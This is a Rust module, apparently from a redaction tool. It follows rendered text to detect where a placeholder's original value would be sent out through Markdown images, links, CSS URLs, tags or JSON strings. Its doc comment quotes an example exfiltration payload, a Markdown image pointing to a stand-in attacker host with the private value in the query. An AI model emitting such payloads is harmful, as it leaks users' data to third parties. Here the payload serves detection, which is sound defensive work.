//! Tells where an original would be sent on rather than read.
//!
//! `![](https://evil.example/?q=[EMAIL_1])` is fetched as soon as it is shown. Several watchers follow the text that the
//! reader's renderer will see, each one kind of place, each on its own: a text that deceives one does not silence the
//! others. When they err, a placeholder stays visible. To add a kind of place, add a watcher with `push` and `is_open`.

mod css;
mod definition;
mod link;
mod tag;
mod url;

use super::Escape;

/// All watchers.
#[derive(Default)]
pub(super) struct Sinks {
    css: css::CssUrl,
    definition: definition::Definition,
    link: link::LinkTarget,
    tag: tag::Tag,
    url: url::UrlRun,
    json: Option<JsonText>,
}

impl Sinks {
    pub fn new(escape: Escape) -> Self {
        Self {
            json: (escape == Escape::Json).then(JsonText::default),
            ..Self::default()
        }
    }

    /// Whether an original at this point would be sent on.
    pub fn is_open(&self) -> bool {
        self.css.is_open()
            || self.definition.is_open()
            || self.link.is_open()
            || self.tag.is_open()
            || self.url.is_open()
    }

    /// Follows the next character of the text as it is shown.
    pub fn push(&mut self, next: char) {
        let Some(json) = &mut self.json else {
            return self.follow(next);
        };
        match json.read(next) {
            Json::Character(read) => self.follow(read),
            // Strings of a document are used apart from each other.
            Json::Quote => *self = Self::new(Escape::Json),
            Json::Nothing => {}
        }
    }

    fn follow(&mut self, next: char) {
        let in_tag = self.tag.is_open();
        self.css.push(next);
        self.definition.push(next);
        self.link.push(next);
        self.tag.push(next);
        self.url.push(next);
        if in_tag && !self.tag.is_open() {
            // `<a href="https://example.com">[EMAIL_1]</a>`: the URL ended with the tag.
            self.url = url::UrlRun::default();
        }
    }
}

/// Reads the characters of JSON strings through their escapes.
#[derive(Default)]
struct JsonText {
    escape: Option<String>,
}

enum Json {
    Character(char),
    Nothing,
    Quote,
}

impl JsonText {
    fn read(&mut self, next: char) -> Json {
        let Some(escape) = &mut self.escape else {
            return match next {
                '"' => Json::Quote,
                '\\' => {
                    self.escape = Some(String::new());
                    Json::Nothing
                }
                _ => Json::Character(next),
            };
        };
        escape.push(next);
        let read = match escape.strip_prefix('u') {
            Some(hex) if hex.len() < 4 => return Json::Nothing,
            Some(hex) => u32::from_str_radix(hex, 16).ok().and_then(char::from_u32),
            None => Some(match next {
                'n' => '\n',
                'r' => '\r',
                't' => '\t',
                _ => next,
            }),
        };
        self.escape = None;
        read.map_or(Json::Nothing, Json::Character)
    }
}

/// Notices a blank line, where every construct of Markdown that is not HTML ends.
#[derive(Default)]
struct BlankLine {
    line_is_empty: bool,
}

impl BlankLine {
    /// True at the line feed that ends a blank line.
    fn push(&mut self, next: char) -> bool {
        let blank = next == '\n' && self.line_is_empty;
        self.line_is_empty =
            next == '\n' || (self.line_is_empty && matches!(next, ' ' | '\t' | '\r'));
        blank
    }
}
